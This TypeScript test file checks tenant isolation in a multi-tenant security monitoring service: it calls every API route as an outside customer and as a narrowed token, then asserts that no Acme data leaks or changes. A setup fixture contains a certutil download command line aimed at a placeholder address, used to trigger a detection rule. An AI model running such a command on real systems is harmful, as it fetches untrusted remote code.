import { readFileSync } from 'node:fs';
import { TOTP } from 'otpauth';
import { afterAll, beforeAll, expect, test, vi } from 'vitest';
import { z } from 'zod';
import { type Running, startIronbark } from './running.ts';

/*
 * Every route of the running system, as its OpenAPI lists them, is called by two who have nothing to do with Acme: a person of
 * another customer, and a token of the provider's that covers only that customer's tenancy. Nothing of Acme may come back, and
 * nothing of Acme's may have changed. A route that has no case here fails the test.
 */

type Caller = { readonly name: string; readonly headers: Record<string, string> };
type Sent = { readonly status: number; readonly text: string };
/** Ids of Acme's things. */
type Acme = {
  alert: string;
  revision: number;
  event: string;
  exception: string;
  rule: string;
  pack: string;
  user: string;
  token: string;
  review: string;
  person: string;
  appointment: string;
  entry: string;
  exceptionOfPlace: string;
};
type Case = (acme: Acme) => {
  readonly path?: Record<string, string>;
  readonly query?: string;
  readonly body?: unknown;
};

/** What only Acme has: its host, user and value names, in whatever answer. */
const markers = ['ACME-HOST-1', 'acme-sensor', 'Acme Holdings', 'acme-person', 'acme-excepted', 'acme-odce'];
const day = {
  from: new Date(Date.now() - 86_400_000).toISOString(),
  to: new Date(Date.now() + 86_400_000).toISOString(),
};
const password = 'a long pass phrase of no use';
const close = { action: 'close', outcome: 'benign', reason: 'not mine' };

let ironbark: Running;
let admin: Caller;
let officer: Caller;
let narrowed: Caller;
let acme: Acme;

async function send(caller: Caller | undefined, method: string, path: string, body?: unknown): Promise<Sent> {
  const stop = new AbortController();
  const answer = await fetch(`${ironbark.origin}${path}`, {
    method,
    signal: stop.signal,
    headers: { ...caller?.headers, ...(body !== undefined && { 'content-type': 'application/json' }) },
    ...(body !== undefined && { body: JSON.stringify(body) }),
  });
  if (answer.headers.get('content-type')?.startsWith('text/event-stream') !== true)
    return { status: answer.status, text: await answer.text() };
  // A stream has no end: what comes in two seconds, while Acme's events come in.
  const timer = setTimeout(() => stop.abort(), 2000);
  let text = '';
  try {
    for await (const piece of answer.body ?? []) text += Buffer.from(piece).toString();
  } catch (error) {
    if (!stop.signal.aborted) throw error;
  }
  clearTimeout(timer);
  return { status: answer.status, text };
}

async function ask<Schema extends z.ZodType>(
  schema: Schema,
  method: string,
  path: string,
  body?: unknown,
): Promise<z.output<Schema>> {
  const { status, text } = await send(admin, method, path, body);
  if (status >= 300) throw new Error(`${method} ${path} gave ${status}: ${text}`);
  return schema.parse(text === '' ? null : JSON.parse(text));
}

const list = z.object({
  alerts: z.array(z.object({ id: z.string(), revision: z.number(), state: z.string(), tenancy: z.string() })),
});
const anything = z.unknown();

async function acmesAlert(): Promise<{ id: string; revision: number; state: string }> {
  const first = async () => (await ask(list, 'GET', '/api/alerts?tenancy=acme-odce')).alerts[0];
  return vi.waitUntil(first, { timeout: 60_000, interval: 500 });
}

/** One certutil download, and one line that can't be read. */
async function acmeSends(secret: string): Promise<void> {
  const { doors } = await ask(
    z.object({ doors: z.array(z.object({ kind: z.string(), port: z.number() })) }),
    'GET',
    '/api/sources/doors',
  );
  const port = doors.find((door) => door.kind === 'bulk')?.port;
  const event = {
    '@timestamp': new Date().toISOString(),
    Channel: 'Microsoft-Windows-Sysmon/Operational',
    SourceName: 'Microsoft-Windows-Sysmon',
    EventID: 1,
    Hostname: 'ACME-HOST-1',
    Image: 'C:\\Windows\\System32\\certutil.exe',
    CommandLine: 'certutil -urlcache -f http://203.0.113.7/a',
    User: 'ACME\\acme-person',
  };
  const lines = [{ create: {} }, event, { create: {} }].map((line) => JSON.stringify(line));
  const answer = await fetch(`http://127.0.0.1:${port}/_bulk`, {
    method: 'POST',
    headers: {
      authorization: `ApiKey ${secret}`,
      'content-type': 'application/x-ndjson',
      'user-agent': 'test',
    },
    body: `${lines.join('\n')}\n"ACME-HOST-1 is no object"\n`,
  });
  if (!answer.ok) throw new Error(`the door gave ${answer.status}: ${await answer.text()}`);
}

/** A person of Zeta's, signed in as a browser is. */
async function enrolled(link: string): Promise<Caller> {
  const token = new URL(link, ironbark.origin).searchParams.get('token');
  const post = async (path: string, body: unknown, headers: Record<string, string> = {}) => {
    const answer = await fetch(`${ironbark.origin}${path}`, {
      method: 'POST',
      headers: { 'content-type': 'application/json', ...headers },
      body: JSON.stringify(body),
    });
    const cookie = answer.headers.getSetCookie()[0]?.split(';', 1)[0];
    return {
      cookie,
      body: z
        .looseObject({ csrfToken: z.string(), secret: z.string().optional() })
        .parse(await answer.json()),
    };
  };
  const first = await post('/api/first-sign-in', { token, name: 'Zoe', email: 'zoe@zeta.example', password });
  const code = new TOTP({ secret: first.body.secret ?? '' }).generate();
  const full = await post(
    '/api/totp/confirm',
    { code },
    { cookie: first.cookie ?? '', 'x-csrf-token': first.body.csrfToken },
  );
  return {
    name: "Zeta's officer",
    headers: { cookie: full.cookie ?? first.cookie ?? '', 'x-csrf-token': full.body.csrfToken },
  };
}

beforeAll(async () => {
  ironbark = await startIronbark({
    IRONBARK_BULK_LISTEN: '127.0.0.1:0',
    IRONBARK_SYSLOG_LISTEN: 'off',
    IRONBARK_SYSLOG_TLS_LISTEN: 'off',
  });
  const local = z
    .object({ secret: z.string() })
    .parse(JSON.parse(readFileSync(`${ironbark.data}/run/local.json`, 'utf8')));
  admin = { name: 'admin', headers: { authorization: `Bearer ${local.secret}` } };
  await ask(anything, 'POST', '/api/setup/provider', { id: 'sov', name: 'Sovereign' });
  for (const [id, name] of [
    ['acme', 'Acme Holdings'],
    ['zeta', 'Zeta'],
  ]) {
    await ask(anything, 'POST', '/api/community/organisations', { id, name, kind: 'customer' });
    await ask(anything, 'POST', '/api/community/tenancies', { organisation: id, environment: 'odce' });
  }
  const { secret } = await ask(z.object({ secret: z.string() }), 'POST', '/api/sources', {
    id: 'acme-sensor',
    name: 'acme-sensor',
    tenancy: 'acme-odce',
    authentication: { kind: 'token' },
  });
  await acmeSends(secret);
  const alert = await acmesAlert();
  const detail = await ask(
    z.object({ ruleId: z.string(), sample: z.array(z.object({ eventUids: z.array(z.string()) })) }),
    'GET',
    `/api/alerts/${alert.id}`,
  );
  const exception = await ask(z.object({ id: z.string() }), 'POST', '/api/rules/exceptions', {
    ruleId: detail.ruleId,
    tenancy: 'acme-odce',
    field: 'Image',
    value: 'acme-excepted',
    reason: 'for this test',
    expiresAt: day.to,
  });
  const rules = await ask(z.object({ packs: z.array(z.object({ id: z.string() })) }), 'GET', '/api/rules');
  const roles = ['analyst', 'auditor', 'customer-security-officer'];
  const created = z.object({ user: z.object({ id: z.string() }), link: z.string() });
  const theirs = await ask(created, 'POST', '/api/users', {
    name: 'acme-person',
    email: 'p@acme.example',
    roles,
    organisation: 'acme',
  });
  const identified = z.object({ id: z.string() });
  const person = await ask(identified, 'POST', '/api/persons', {
    organisation: 'acme',
    name: 'acme-person',
    email: 'p@acme.example',
  });
  const appointment = await ask(identified, 'POST', '/api/appointments', {
    person: person.id,
    office: 'cio',
    evidenceKind: 'letter',
    evidence: 'Acme Holdings, letter 1',
  });
  const exceptionOfPlace = await ask(identified, 'POST', '/api/places/exceptions', {
    person: person.id,
    countries: ['NZ'],
    riskAssessment: 'Acme Holdings 7',
    reason: 'conference',
    expiresAt: day.to,
  });
  const zetas = await ask(created, 'POST', '/api/users', {
    name: 'Zoe',
    email: 'zoe@zeta.example',
    roles,
    organisation: 'zeta',
  });
  officer = await enrolled(zetas.link);
  const made = z.object({ token: z.object({ id: z.string() }), secret: z.string() });
  const permissions = [
    'alert.read',
    'alert.work',
    'event.read',
    'source.read',
    'source.manage',
    'rule.read',
    'community.read',
    'community.manage',
    'person.read',
    'person.manage',
    'clearance.read',
    'clearance.manage',
    'ledger.read',
    'user.provision',
    'person.read',
    'person.manage',
  ];
  const token = await ask(made, 'POST', '/api/tokens', {
    name: 'narrowed',
    permissions,
    tenancies: ['zeta-odce'],
    days: 1,
  });
  narrowed = {
    name: "a token of the provider's, for Zeta only",
    headers: { authorization: `Bearer ${token.secret}` },
  };
  const review = await ask(z.object({ review: z.object({ id: z.string() }) }), 'POST', '/api/reviews', {
    name: 'acme-person and others',
    organisation: 'acme',
  });
  const ledger = await ask(
    z.object({ entries: z.array(z.object({ id: z.string() })) }),
    'GET',
    '/api/ledger?subject=source/acme-sensor',
  );
  acme = {
    alert: alert.id,
    revision: alert.revision,
    event: detail.sample[0]?.eventUids[0] ?? '',
    exception: exception.id,
    rule: detail.ruleId,
    pack: rules.packs[0]?.id ?? '',
    user: theirs.user.id,
    token: token.token.id,
    review: review.review.id,
    person: person.id,
    appointment: appointment.id,
    entry: ledger.entries[0]?.id ?? '',
    exceptionOfPlace: exceptionOfPlace.id,
  };
}, 300_000);
afterAll(() => ironbark.stop());

const none: Case = () => ({});
const askOfAcme = {
  subject: { type: 'email', id: 'p@acme.example' },
  action: { name: 'portal.use' },
  resource: { type: 'tenancy', id: 'acme-odce' },
};

/** Acme's people, asked for by who provisions another organisation. */
function scimCases(): Record<string, Case> {
  const organisation = 'acme';
  const root = '/scim/v2/{organisation}';
  const operations = { Operations: [{ op: 'replace', path: 'active', value: false }] };
  const all: Case = () => ({ path: { organisation } });
  return {
    [`GET ${root}/ServiceProviderConfig`]: all,
    [`GET ${root}/Schemas`]: all,
    [`GET ${root}/ResourceTypes`]: all,
    [`GET ${root}/Users`]: all,
    [`POST ${root}/Users`]: () => ({ path: { organisation }, body: { userName: 'new@x.example' } }),
    [`GET ${root}/Users/{id}`]: ({ user }) => ({ path: { organisation, id: user } }),
    [`PUT ${root}/Users/{id}`]: ({ user }) => ({
      path: { organisation, id: user },
      body: { userName: 'taken-over@x.example', active: false },
    }),
    [`PATCH ${root}/Users/{id}`]: ({ user }) => ({ path: { organisation, id: user }, body: operations }),
    [`DELETE ${root}/Users/{id}`]: ({ user }) => ({ path: { organisation, id: user } }),
    [`GET ${root}/Groups`]: all,
    [`GET ${root}/Groups/{id}`]: () => ({ path: { organisation, id: 'member' } }),
    [`PATCH ${root}/Groups/{id}`]: ({ user }) => ({
      path: { organisation, id: 'auditor' },
      body: { Operations: [{ op: 'add', path: 'members', value: [{ value: user }] }] },
    }),
  };
}

/** Acme's agreement, asked for by who has nothing to do with it. */
function agreementCases(): Record<string, Case> {
  const place = { organisation: 'acme', environment: 'odce' };
  const number: Case = () => ({ path: { number: '1' } });
  const nothing: Case = () => ({ path: { id: 'nothing' } });
  return {
    'GET /api/agreements': none,
    'GET /api/agreements/template': none,
    'GET /api/agreements/versions': none,
    'POST /api/agreements/versions': () => ({
      body: { source: 'x', changeClass: 'material', summary: 'not mine' },
    }),
    'GET /api/agreements/versions/{number}': number,
    'GET /api/agreements/versions/{number}/comparison': () => ({ path: { number: '1' }, query: '?with=1' }),
    'POST /api/agreements/versions/{number}/approval': number,
    'POST /api/agreements/versions/{number}/publication': () => ({ path: { number: '1' }, body: {} }),
    'GET /api/agreements/versions/{number}/what-if': () => ({
      path: { number: '1' },
      query: `?on=${day.to}`,
    }),
    'POST /api/agreements/readings': () => ({ body: { environment: 'odce' } }),
    'POST /api/agreements/readings/{id}/sections/{section}': () => ({
      path: { id: 'nothing', section: 'agreement' },
      body: { do: 'open' },
    }),
    'POST /api/agreements/readings/{id}/record': nothing,
    'POST /api/agreements/readings/{id}/signature': () => ({
      path: { id: 'nothing' },
      body: {
        id: 'x',
        rawId: 'x',
        type: 'public-key',
        response: { clientDataJSON: 'x' },
        clientExtensionResults: {},
      },
    }),
    'GET /api/agreements/acceptances/{id}/receipt': nothing,
    'GET /api/agreements/acceptances/{id}/receipt.pdf': nothing,
    'POST /api/agreements/notices': () => ({ body: { environment: 'odce', do: 'confirm' } }),
    'POST /api/agreements/steps': () => ({ body: { ...place, do: 'terminate', reason: 'not mine' } }),
    'GET /api/agreements/papers': none,
    'POST /api/agreements/papers': () => ({
      body: {
        ...place,
        version: 1,
        signerName: 'x',
        office: 'CIO',
        signedOn: '2026-01-01',
        evidenceName: 'x',
        evidenceSha256: 'a'.repeat(64),
      },
    }),
    'POST /api/agreements/papers/{id}': () => ({
      path: { id: 'nothing' },
      body: { do: 'refuse', why: 'not mine' },
    }),
    'GET /api/agreements/obligations': none,
    'POST /api/agreements/obligations': () => ({ body: { ...place, obligation: 'x', note: 'not mine' } }),
    'POST /api/agreements/reminders': none,
  };
}
const bounds = { ...day, query: '' };

/** Remote support for Acme, and what of it is kept. */
function supportCases(): Record<string, Case> {
  const at = '/api/support/sessions/{id}';
  const one: Case = () => ({ path: { id: 'nothing' } });
  const told =
    (body: unknown): Case =>
    () => ({ path: { id: 'nothing' }, body });
  const answer = {
    id: 'x',
    rawId: 'x',
    type: 'public-key',
    response: { clientDataJSON: 'x' },
    clientExtensionResults: {},
  };
  const signed = { offeredAt: day.from, answer };
  const standing = { tenancy: 'acme-odce', days: 1 };
  const hostKey = `SHA256:${'A'.repeat(43)}`;
  return {
    'GET /api/support/sessions': () => ({ query: '?tenancy=acme-odce' }),
    'POST /api/support/sessions': ({ user }) => ({
      body: {
        tenancy: 'acme-odce',
        reason: 'A reason that is not mine.',
        minutes: 10,
        systems: [{ name: 'a', host: '127.0.0.1', account: 'root', hostKey }],
        engineers: [user],
      },
    }),
    [`GET ${at}`]: one,
    [`POST ${at}/approval/options`]: one,
    [`POST ${at}/approval`]: told(signed),
    [`POST ${at}/refusal`]: told({ reason: 'not mine' }),
    [`POST ${at}/cancellation`]: one,
    [`POST ${at}/certificate`]: told({ publicKey: `ssh-ed25519 ${'A'.repeat(68)}` }),
    [`POST ${at}/end`]: told({ reason: 'not mine' }),
    [`POST ${at}/summary`]: told({ changed: 'not mine' }),
    [`POST ${at}/countersignature/options`]: one,
    [`POST ${at}/countersignature`]: told(signed),
    [`POST ${at}/review`]: told({ finding: 'This is not mine.' }),
    [`GET ${at}/recordings/{number}`]: () => ({ path: { id: 'nothing', number: '1' } }),
    'GET /api/support/standing': none,
    'POST /api/support/standing/options': () => ({ body: standing }),
    'POST /api/support/standing': () => ({ body: { ...standing, ...signed } }),
    'DELETE /api/support/standing/{id}': one,
    'GET /api/support/notices': none,
    'POST /api/support/notices/{id}/seen': one,
    'GET /api/support/seen': none,
    'GET /api/support/gateway': none,
    'GET /api/support/engineers': none,
  };
}

/** How to ask each route for what is Acme's. */
const cases: Record<string, Case> = {
  ...agreementCases(),
  'GET /healthz': none,
  'GET /readyz': none,
  'GET /metrics': none,
  'GET /api/health': none,
  'GET /api/ledger': none,
  'GET /api/ledger/verification': none,
  'GET /api/ledger/log': none,
  'GET /api/ledger/proof/inclusion': () => ({ query: '?index=0' }),
  'GET /api/ledger/proof/consistency': () => ({ query: '?from=1' }),
  'GET /api/ledger/entries/{id}/receipt': ({ entry }) => ({ path: { id: entry } }),
  'POST /api/ledger/entries/{id}/erase': ({ entry }) => ({
    path: { id: entry },
    body: { reason: 'not mine' },
  }),
  'GET /ledger/checkpoint': none,
  'GET /ledger/tile/{*}': () => ({ path: { '*': '0/000.p/1' } }),
  'GET /ledger/tile/entries/{*}': () => ({ path: { '*': '000.p/1' } }),
  'GET /api/setup': none,
  'POST /api/setup/provider': () => ({ body: { id: 'other', name: 'Other' } }),
  'POST /api/setup/demo': none,
  'POST /api/first-sign-in': () => ({ body: { token: 'x', name: 'x', email: 'x@x.example', password } }),
  'POST /api/totp/confirm': () => ({ body: { code: '000000' } }),
  'POST /api/session/password': () => ({ body: { email: 'p@acme.example', password, code: '000000' } }),
  'GET /api/session': none,
  'POST /api/session/passkey/options': none,
  'POST /api/session/passkey': () => ({ body: {} }),
  'POST /api/passkeys/options': none,
  'POST /api/passkeys': () => ({ body: {} }),
  'GET /api/users': none,
  'POST /api/users': () => ({
    body: { name: 'x', email: 'x@x.example', roles: ['analyst'], organisation: 'acme' },
  }),
  'PATCH /api/users/{id}': ({ user }) => ({ path: { id: user }, body: { locked: true } }),
  'POST /api/users/{id}/link': ({ user }) => ({ path: { id: user } }),
  'GET /api/tokens': none,
  'POST /api/tokens': () => ({ body: { name: 'x', permissions: ['alert.read'], tenancies: ['acme-odce'] } }),
  'DELETE /api/tokens/{id}': () => ({ path: { id: 'nothing' } }),
  'GET /api/session/issuers': none,
  'GET /api/session/issuers/{id}': () => ({ path: { id: 'nothing' } }),
  'GET /api/session/issuers/{id}/callback': () => ({ path: { id: 'nothing' } }),
  'POST /api/session/issuers/{id}/logout': () => ({ path: { id: 'nothing' }, body: { logout_token: 'x' } }),
  'GET /api/issuers': none,
  'POST /api/issuers': () => ({
    body: { id: 'x', name: 'x', url: 'https://x.example', clientId: 'x', organisation: 'acme' },
  }),
  'PATCH /api/issuers/{id}': () => ({ path: { id: 'nothing' }, body: { enabled: false } }),
  'DELETE /api/issuers/{id}': () => ({ path: { id: 'nothing' } }),
  'GET /api/reviews': none,
  'POST /api/reviews': () => ({ body: { name: 'x', organisation: 'acme' } }),
  'GET /api/reviews/{id}': ({ review }) => ({ path: { id: review } }),
  'POST /api/reviews/{id}/decisions': ({ review, user }) => ({
    path: { id: review },
    body: { users: [user], decision: 'remove', reason: 'not mine' },
  }),
  'POST /api/reviews/{id}/end': ({ review }) => ({ path: { id: review } }),
  'GET /api/break-glass': none,
  'POST /api/break-glass': () => ({ body: { name: 'x', email: 'glass@x.example' } }),
  'POST /api/break-glass/{id}/half': ({ user }) => ({ path: { id: user } }),
  'POST /api/break-glass/uses/{id}/review': () => ({ path: { id: 'nothing' }, body: { outcome: 'x' } }),
  'POST /api/session/break-glass': () => ({
    body: { email: 'p@acme.example', first: 'x', second: 'x', reason: 'a reason of some length' },
  }),
  'POST /api/session/break-glass/test': () => ({
    body: { email: 'p@acme.example', first: 'x', second: 'x', reason: 'a reason of some length' },
  }),
  ...scimCases(),
  'GET /api/community': none,
  'POST /api/community/environments': () => ({ body: { id: 'x', name: 'x', marking: 'OFFICIAL' } }),
  'POST /api/community/organisations': () => ({ body: { id: 'x', name: 'x', kind: 'customer' } }),
  'POST /api/community/tenancies': () => ({ body: { organisation: 'acme', environment: 'pdce' } }),
  'GET /api/organisations': none,
  'GET /api/organisations/{id}': () => ({ path: { id: 'acme' } }),
  'PATCH /api/organisations/{id}': () => ({ path: { id: 'acme' }, body: { abn: '51824753556' } }),
  'GET /api/organisations/{id}/contacts': () => ({ path: { id: 'acme' } }),
  'PUT /api/organisations/{id}/contacts': () => ({ path: { id: 'acme' }, body: { contacts: [] } }),
  'POST /api/organisations/{id}/contacts/confirmation': () => ({ path: { id: 'acme' } }),
  'POST /api/tenancies/{id}/state': () => ({
    path: { id: 'acme-odce' },
    body: { to: 'left', reason: 'not mine' },
  }),
  'PUT /api/tenancies/{id}/services': () => ({ path: { id: 'acme-odce' }, body: { services: ['iaas'] } }),
  'PUT /api/tenancies/{id}/conditions/{condition}': () => ({
    path: { id: 'acme-odce', condition: 'business-impact' },
    body: { evidence: 'not mine' },
  }),
  'GET /api/services': none,
  'PUT /api/services': () => ({ body: { id: 'x', name: 'x' } }),
  'GET /api/community/due': none,
  'GET /api/persons': () => ({ query: '?organisation=acme' }),
  'POST /api/persons': () => ({ body: { organisation: 'acme', name: 'x', email: 'x@acme.example' } }),
  'PATCH /api/persons/{id}': ({ person }) => ({ path: { id: person }, body: { name: 'not mine' } }),
  'POST /api/persons/{id}/end': ({ person }) => ({ path: { id: person }, body: { reason: 'not mine' } }),
  'GET /api/appointments': () => ({ query: '?organisation=acme' }),
  'POST /api/appointments': ({ person }) => ({
    body: { person, office: 'cio', evidenceKind: 'letter', evidence: 'not mine' },
  }),
  'POST /api/appointments/{id}/verifications': ({ appointment }) => ({
    path: { id: appointment },
    body: { note: 'not mine' },
  }),
  'POST /api/appointments/{id}/delegations': ({ appointment, person }) => ({
    path: { id: appointment },
    body: { person, until: day.to, reason: 'not mine' },
  }),
  'POST /api/appointments/{id}/end': ({ appointment }) => ({
    path: { id: appointment },
    body: { reason: 'not mine' },
  }),
  'GET /api/clearances': none,
  'GET /api/clearances/requirements': () => ({ query: '?organisation=acme' }),
  'PUT /api/clearances/{person}': ({ person }) => ({
    path: { person },
    body: { level: 'pv', sponsor: 'not mine', sponsorActive: true, citizenships: ['AU'] },
  }),
  'POST /api/clearances/{person}/confirmation': ({ person }) => ({
    path: { person },
    body: { evidence: 'not mine' },
  }),
  'GET /api/clearances/{person}/history': ({ person }) => ({ path: { person } }),
  'POST /api/clearances/import': none,
  'GET /api/places': none,
  'POST /api/places/exceptions': ({ person }) => ({
    body: { person, countries: ['NZ'], riskAssessment: 'x', reason: 'not mine', expiresAt: day.to },
  }),
  'POST /api/places/exceptions/{id}/agreement': ({ exceptionOfPlace }) => ({
    path: { id: exceptionOfPlace },
  }),
  'POST /api/places/remote-work': ({ person }) => ({
    body: { person, policy: 'not mine', expiresAt: day.to },
  }),
  'DELETE /api/places/{kind}/{id}': ({ exceptionOfPlace }) => ({
    path: { kind: 'exceptions', id: exceptionOfPlace },
  }),
  'PUT /api/places/devices/{id}': ({ person }) => ({
    path: { id: 'acme-laptop' },
    body: { person, name: 'not mine', managed: false, posture: 'unknown' },
  }),
  'GET /api/places/networks': none,
  'POST /api/places/networks': () => ({ query: '?list=x&country=NZ&origin=not-mine' }),
  ...supportCases(),
  'GET /api/sources': none,
  'POST /api/sources': () => ({
    body: { id: 'x', name: 'x', tenancy: 'acme-odce', authentication: { kind: 'token' } },
  }),
  'GET /api/sources/doors': none,
  'GET /api/sources/{id}': () => ({ path: { id: 'acme-sensor' } }),
  'PATCH /api/sources/{id}': () => ({ path: { id: 'acme-sensor' }, body: { state: 'paused' } }),
  'POST /api/sources/{id}/secret': () => ({ path: { id: 'acme-sensor' } }),
  'GET /api/sources/{id}/rejected': () => ({ path: { id: 'acme-sensor' } }),
  'POST /api/sources/{id}/rejected/replay': () => ({ path: { id: 'acme-sensor' }, body: { ids: [] } }),
  'GET /api/alerts': () => ({ query: '?tenancy=acme-odce' }),
  'GET /api/alerts/histogram': () => ({ query: `?from=${day.from}&to=${day.to}&tenancy=acme-odce` }),
  'GET /api/alerts/assignees': none,
  'GET /api/alerts/stream': none,
  'GET /api/alerts/reads': none,
  'GET /api/alerts/{id}': ({ alert }) => ({ path: { id: alert } }),
  'POST /api/alerts/actions': ({ alert, revision }) => ({
    body: { select: { alerts: [{ id: alert, revision }] }, do: close },
  }),
  'POST /api/alerts/undo': () => ({ body: { undo: 'x' } }),
  'POST /api/events/search': () => ({ body: { ...bounds, query: 'ACME*' } }),
  'POST /api/events/histogram': () => ({ body: bounds }),
  'POST /api/events/facets': () => ({
    body: { ...bounds, fields: ['device_hostname', 'tenancy_id', 'User'] },
  }),
  'GET /api/events/fields': none,
  'GET /api/events/tail': none,
  'GET /api/events/{uid}': ({ event }) => ({ path: { uid: event } }),
  'GET /api/rules': none,
  'GET /api/rules/exceptions': none,
  'POST /api/rules/exceptions': ({ rule }) => ({
    body: {
      ruleId: rule,
      tenancy: 'acme-odce',
      field: 'Image',
      value: 'x',
      reason: 'not mine',
      expiresAt: day.to,
    },
  }),
  'DELETE /api/rules/exceptions/{id}': ({ exception }) => ({ path: { id: exception } }),
  'POST /api/rules/packs': () => ({ query: '?name=x&version=1' }),
  'PATCH /api/rules/packs/{id}': ({ pack }) => ({ path: { id: pack }, body: { active: false } }),
  'DELETE /api/rules/packs/{id}': ({ pack }) => ({ path: { id: pack } }),
  'GET /api/rules/{id}': ({ rule }) => ({ path: { id: rule } }),
  'PATCH /api/rules/{id}': ({ rule }) => ({ path: { id: rule }, body: { enabled: false } }),
  'POST /access/v1/evaluation': () => ({ body: askOfAcme }),
  'POST /access/v1/evaluations': () => ({ body: { ...askOfAcme, evaluations: [{}] } }),
  'POST /access/v1/search/subject': () => ({ body: { ...askOfAcme, subject: { type: 'email' } } }),
  'POST /access/v1/search/resource': () => ({ body: { ...askOfAcme, resource: { type: 'tenancy' } } }),
  'POST /access/v1/search/action': () => ({ body: askOfAcme }),
  'GET /.well-known/authzen-configuration': none,
  'POST /access/v1/kubernetes/authorization': () => ({
    body: {
      apiVersion: 'authorization.k8s.io/v1',
      kind: 'SubjectAccessReview',
      spec: { user: 'p@acme.example', resourceAttributes: { namespace: 'acme-odce', verb: 'get' } },
    },
  }),
  'POST /access/v1/kubernetes/admission': () => ({ body: {} }),
  'GET /api/gate/rules': none,
  'PUT /api/gate/parameters': () => ({ body: {} }),
  'GET /api/gate/applications': none,
  'PUT /api/gate/applications/{id}': () => ({
    path: { id: 'x' },
    body: { id: 'x', subjects: [], resources: [] },
  }),
  'DELETE /api/gate/applications/{id}': () => ({ path: { id: 'x' } }),
  'POST /api/gate/can': () => ({
    body: { action: 'portal.use', resource: { type: 'tenancy', id: 'acme-odce' } },
  }),
  'GET /api/gate/requests': none,
  'POST /api/gate/requests': () => ({
    body: { action: 'portal.use', resource: { type: 'tenancy', id: 'acme-odce' }, rule: 'role-permits' },
  }),
  'PATCH /api/gate/requests/{id}': () => ({ path: { id: 'nothing' }, body: { state: 'done' } }),
  'GET /api/decisions': () => ({ query: '?organisation=acme' }),
  'GET /api/decisions/{id}': () => ({ path: { id: 'nothing' } }),
  'POST /api/decisions/{id}/replay': () => ({ path: { id: 'nothing' } }),
};

/** These end the caller's own session: last. */
const last = ['DELETE /api/session'];

async function routes(): Promise<string[]> {
  const shape = z.object({ paths: z.record(z.string(), z.record(z.string(), z.unknown())) });
  const { paths } = await ask(shape, 'GET', '/api/openapi.json');
  return Object.entries(paths).flatMap(([path, methods]) =>
    Object.keys(methods).map((method) => `${method.toUpperCase()} ${path}`),
  );
}

test('every route has a case here, and every case is a route', async () => {
  expect((await routes()).sort()).toEqual([...Object.keys(cases), ...last].sort());
});

test('Acme itself is there to be seen by whom it concerns', async () => {
  const seen = await send(admin, 'POST', '/api/events/search', { ...bounds, query: 'ACME*' });
  expect(seen.text).toContain('ACME-HOST-1');
  const mine = await send(officer, 'GET', '/api/session');
  expect(mine).toMatchObject({ status: 200, text: expect.stringContaining('zeta-odce') });
  expect((await send(narrowed, 'GET', '/api/alerts')).status).toBe(200);
});

test('nothing of Acme comes back to who has nothing to do with it, by any route, and nothing of it is changed', async () => {
  const leaks: string[] = [];
  const broken: string[] = [];
  for (const caller of [officer, narrowed]) {
    for (const [route, prepare] of Object.entries(cases)) {
      const [method = '', pattern = ''] = route.split(' ');
      const { path = {}, query = '', body } = prepare(acme);
      const url = pattern.replaceAll(/\{([\w*]+)\}/g, (_, name: string) =>
        encodeURIComponent(path[name] ?? ''),
      );
      const { status, text } = await send(caller, method, url + query, body);
      // What was asked with is echoed in the problem; the answer holds nothing else of Acme's.
      const asked = `${url}${query}${JSON.stringify(body ?? '')}`;
      const found = markers.filter(
        (marker) => text.includes(marker) && !(status >= 400 && asked.includes(marker)),
      );
      if (found.length > 0) leaks.push(`${caller.name}: ${route} gave ${status} with ${found.join(', ')}`);
      if (status >= 500) broken.push(`${caller.name}: ${route} gave ${status}: ${text.slice(0, 200)}`);
    }
  }
  expect({ leaks, broken }).toEqual({ leaks: [], broken: [] });

  expect(
    await ask(z.object({ state: z.string(), revision: z.number() }), 'GET', `/api/alerts/${acme.alert}`),
  ).toMatchObject({ state: 'new', revision: acme.revision });
  expect(await ask(anything, 'GET', '/api/sources/acme-sensor')).toMatchObject({ state: 'active' });
  expect(await ask(anything, 'GET', `/api/rules/exceptions?rule=${acme.rule}`)).toMatchObject({
    exceptions: [{ id: acme.exception }],
  });
  expect(await ask(anything, 'GET', `/api/rules/${acme.rule}`)).toMatchObject({ enabled: true });
  const { users } = await ask(
    z.object({ users: z.array(z.object({ id: z.string(), locked: z.boolean() })) }),
    'GET',
    '/api/users',
  );
  expect(users.find((user) => user.id === acme.user)?.locked).toBe(false);
  expect(await ask(anything, 'GET', '/api/organisations/acme')).toMatchObject({
    abn: null,
    tenancies: [{ id: 'acme-odce', state: 'invited', services: [] }],
  });
  expect(await ask(anything, 'GET', '/api/persons?organisation=acme')).toMatchObject({
    people: [{ id: acme.person, name: 'acme-person', endedAt: null }],
  });
  expect(await ask(anything, 'GET', '/api/appointments?organisation=acme')).toMatchObject({
    appointments: [{ id: acme.appointment, state: 'proposed', verifications: [] }],
  });
  expect(await ask(anything, 'GET', '/api/clearances')).toEqual({ clearances: [] });
  expect(await ask(anything, 'GET', '/api/places')).toMatchObject({
    exceptions: [{ id: acme.exceptionOfPlace, state: 'proposed' }],
    remoteWork: [],
    devices: [],
  });
}, 180_000);

test('who is nobody gets nothing but what is public', async () => {
  const open: string[] = [];
  for (const [route, prepare] of Object.entries(cases)) {
    const [method = '', pattern = ''] = route.split(' ');
    const { path = {}, query = '', body } = prepare(acme);
    const url = pattern.replaceAll(/\{([\w*]+)\}/g, (_, name: string) =>
      encodeURIComponent(path[name] ?? ''),
    );
    const { status } = await send(undefined, method, url + query, body);
    // A sign-in that fails is a 401 too: it is open to try.
    if (status !== 401 || route === 'POST /api/session/password') open.push(route);
  }
  expect(open.sort()).toEqual([
    'GET /.well-known/authzen-configuration',
    'GET /api/session/issuers',
    'GET /api/session/issuers/{id}',
    'GET /api/session/issuers/{id}/callback',
    'GET /api/setup',
    'GET /healthz',
    'GET /ledger/checkpoint',
    'GET /ledger/tile/{*}',
    'GET /readyz',
    'POST /api/first-sign-in',
    'POST /api/session/issuers/{id}/logout',
    'POST /api/session/passkey',
    'POST /api/session/passkey/options',
    'POST /api/session/password',
  ]);
}, 60_000);
